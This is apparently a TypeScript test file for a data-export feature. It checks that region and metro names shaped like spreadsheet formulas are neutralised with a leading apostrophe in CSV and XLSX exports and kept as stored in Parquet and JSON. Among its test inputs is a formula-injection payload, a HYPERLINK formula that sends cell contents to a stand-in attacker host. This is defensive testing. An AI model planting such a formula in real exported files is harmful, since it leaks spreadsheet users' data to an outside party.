/**
 * `data export` and CSV injection (issue 11, point 4): a user metro whose regions are named like formulas
 * (`=HYPERLINK(…)`, `@SUM(…)`, `-2+3`, `+1`) is added to a test store from a definition file, then the regions and
 * the metros are exported. In CSV and XLSX such a text starts with `'` (a spreadsheet shows it, never runs it); a
 * name that is a plain number (`-12.5`) and every other text stay as stored; Parquet and JSON keep the stored text.
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { addMetro } from '../../src/metro/user-metros.ts';
import { exportTable } from '../../src/store/export.ts';
import { neutraliseCell, neutraliseCellSql, restoreCell, restoreCellSql } from '../../src/store/safe-cell.ts';
import type { Store } from '../../src/store/store.ts';
import { emptyStore, fixtureStore, withTempDir } from './helpers.ts';

const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** A metro of three new regions (invented ids and points) with formula-like names. */
const definition = {
  id: 'formula-test',
  names: { en: '+Formula metro', zh: '公式都市圈' },
  country: 'CN',
  members: [
    { id: 'CN-990301', ring: 'core', names: { en: hyperlink, zh: '@SUM(1+1)' }, point: { lon: 116.0, lat: 39.0 } },
    { id: 'CN-990302', ring: 'inner', names: { en: '-2+3', zh: '\t制表符' }, point: { lon: 116.5, lat: 39.2 } },
    { id: 'CN-990303', ring: 'outer', names: { en: '-12.5', zh: '普通名称' }, point: { lon: 117.0, lat: 39.1 } },
  ],
};

async function withFormulaMetro(fn: (store: Store, dir: string) => Promise<void>): Promise<void> {
  const store = await fixtureStore();
  try {
    await withTempDir(async (dir) => {
      const file = join(dir, 'formula-test.json');
      writeFileSync(file, JSON.stringify(definition));
      await addMetro(store, file);
      await fn(store, dir);
    });
  } finally {
    await store.close();
  }
}

const csvRows = (store: Store, file: string, where: string) =>
  store.rows(`SELECT * FROM read_csv('${file}', header = true, all_varchar = true) WHERE ${where} ORDER BY id`);

describe('exportTable and formula-like text', () => {
  it('neutralises region names in CSV and keeps a plain-number name and the ids as they are', async () => {
    await withFormulaMetro(async (store, dir) => {
      const out = join(dir, 'regions.csv');
      await exportTable(store, 'regions', 'csv', out);
      const rows = await csvRows(store, out, `id LIKE 'CN-9903%'`);
      assert.deepEqual(
        rows.map((r) => [r.id, r.name_en, r.name_zh]),
        [
          ['CN-990301', `'${hyperlink}`, "'@SUM(1+1)"],
          ['CN-990302', "'-2+3", "'\t制表符"],
          ['CN-990303', '-12.5', '普通名称'],
        ],
      );
      // The raw file: no field starts with a formula character.
      const text = readFileSync(out, 'utf8');
      assert.ok(!/(^|,|")=HYPERLINK/m.test(text));
      assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`));
    });
  });

  it('neutralises the same text in XLSX and leaves numbers numbers', async () => {
    await withFormulaMetro(async (store, dir) => {
      const out = join(dir, 'regions.xlsx');
      await exportTable(store, 'regions', 'xlsx', out);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(out);
      const sheet = workbook.worksheets[0];
      assert.ok(sheet);
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const at = (name: string) => header.indexOf(name) + 1;
      const byId = new Map<string, ExcelJS.Row>();
      sheet.eachRow((row) => byId.set(String(row.getCell(at('id')).value), row));
      assert.equal(byId.get('CN-990301')?.getCell(at('name_en')).value, `'${hyperlink}`);
      assert.equal(byId.get('CN-990301')?.getCell(at('name_zh')).value, "'@SUM(1+1)");
      assert.equal(byId.get('CN-990302')?.getCell(at('name_en')).value, "'-2+3");
      assert.equal(byId.get('CN-990303')?.getCell(at('name_en')).value, '-12.5');
      assert.equal(byId.get('CN-990303')?.getCell(at('lon')).value, 117);
      sheet.eachRow((row) => row.eachCell((cell) => assert.notEqual(cell.type, ExcelJS.ValueType.Formula)));
    });
  });

  it('neutralises a metro name in the metros table', async () => {
    await withFormulaMetro(async (store, dir) => {
      const out = join(dir, 'metros.csv');
      await exportTable(store, 'metros', 'csv', out);
      const rows = await csvRows(store, out, `id = 'formula-test'`);
      assert.equal(rows[0]?.name_en, "'+Formula metro");
    });
  });

  it('keeps the stored text in Parquet and JSON, which spreadsheets do not open', async () => {
    await withFormulaMetro(async (store, dir) => {
      const out = join(dir, 'regions.parquet');
      await exportTable(store, 'regions', 'parquet', out);
      const rows = await store.rows(`SELECT name_en FROM read_parquet('${out}') WHERE id = 'CN-990301'`);
      assert.equal(rows[0]?.name_en, hyperlink);
    });
  });
});

describe('neutraliseCell and restoreCell', () => {
  it('follows the report’s rule: formula characters first get an apostrophe, plain numbers do not', () => {
    for (const text of ['=1', '+A1', '-2+3', '@x', '\tx', '\rx', "'=1", "''@x"]) assert.equal(neutraliseCell(text), `'${text}`, JSON.stringify(text));
    for (const text of ['-12.5', '+3', '1e-3', "'-3", "'abc", 'Beijing', '北京', ' =1', '']) assert.equal(neutraliseCell(text), text, JSON.stringify(text));
  });

  it('restoreCell removes exactly the apostrophe neutraliseCell added', () => {
    assert.equal(restoreCell("'=1+1"), '=1+1');
    assert.equal(restoreCell("''=1"), "'=1");
    for (const text of ["'-3", "'abc", "'", '=1', 'plain']) assert.equal(restoreCell(text), text, JSON.stringify(text));
  });

  it('round-trips every text, and the SQL forms agree with the JavaScript ones (fast-check, seed 20261211)', async () => {
    const pieces = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', '.', 'e', 'a', '北', ' ', '"');
    const texts = fc.array(pieces, { maxLength: 6 }).map((p) => p.join(''));
    fc.assert(
      fc.property(texts, (text) => restoreCell(neutraliseCell(text)) === text),
      { seed: 20261211, numRuns: 2000 },
    );
    const sample = fc.sample(texts, { seed: 20261211, numRuns: 300 });
    const store = await emptyStore();
    try {
      const values = sample.map((t) => `('${t.replace(/'/g, "''")}')`).join(', ');
      const rows = await store.rows(`SELECT t, ${neutraliseCellSql('t')} AS n, ${restoreCellSql('t')} AS r FROM (VALUES ${values}) v(t)`);
      for (const row of rows) {
        const t = String(row.t);
        assert.equal(row.n, neutraliseCell(t), JSON.stringify(t));
        assert.equal(row.r, restoreCell(t), JSON.stringify(t));
      }
      const nulls = await store.rows(`SELECT ${neutraliseCellSql('NULL::VARCHAR')} AS n, ${restoreCellSql('NULL::VARCHAR')} AS r`);
      assert.deepEqual(nulls, [{ n: null, r: null }]);
    } finally {
      await store.close();
    }
  });
});
